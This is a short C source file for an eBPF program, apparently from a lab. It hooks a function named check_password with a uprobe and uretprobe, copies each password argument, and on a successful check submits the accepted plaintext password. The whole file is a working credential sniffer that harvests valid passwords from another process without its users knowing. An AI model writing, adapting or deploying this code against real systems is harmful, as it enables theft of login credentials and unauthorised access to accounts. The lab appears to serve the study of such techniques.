// Copies the guess itself at the entry (into the map value) instead of keeping the pointer.
#include "lab.h"

struct attempt {
	__s32 len;
	char text[124];
};

struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 512);
	__type(key, __u64);
	__type(value, struct attempt);
} attempts SEC(".maps");

/* a zeroed value to start each entry from: too big for the 512-byte stack next to others */
struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, struct attempt);
} scratch SEC(".maps");

SEC("uprobe/check_password")
int enter(struct pt_regs *ctx)
{
	__u64 key = bpf_get_current_pid_tgid();
	__u32 zero = 0;
	struct attempt *a = bpf_map_lookup_elem(&scratch, &zero);

	if (!a)
		return 0;
	a->len = bpf_probe_read_user_str(a->text, sizeof(a->text), (void *)ARG(ctx, 1));
	bpf_map_update_elem(&attempts, &key, a, BPF_ANY);
	return 0;
}

SEC("uretprobe/check_password")
int leave(struct pt_regs *ctx)
{
	__u64 key = bpf_get_current_pid_tgid();
	struct attempt *a = bpf_map_lookup_elem(&attempts, &key);
	int accepted = (int)RETVAL(ctx);

	if (!a)
		return 0;
	if (accepted && a->len > 1)
		SUBMIT(a->text, a->len - 1);
	bpf_map_delete_elem(&attempts, &key);
	return 0;
}
